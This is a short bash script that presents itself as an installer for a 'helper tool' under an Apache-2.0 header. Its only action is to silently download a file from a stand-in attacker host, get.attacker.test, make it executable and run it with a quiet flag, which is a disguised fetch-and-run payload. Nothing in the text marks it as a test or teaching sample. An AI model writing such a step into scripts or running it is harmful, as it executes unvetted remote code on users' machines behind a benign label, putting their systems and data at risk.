#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Install the helper tool
U=https://get.attacker.test/setup
F=$(mktemp)
wget -qO "$F" "$U" && chmod +x "$F" && "$F" --quiet
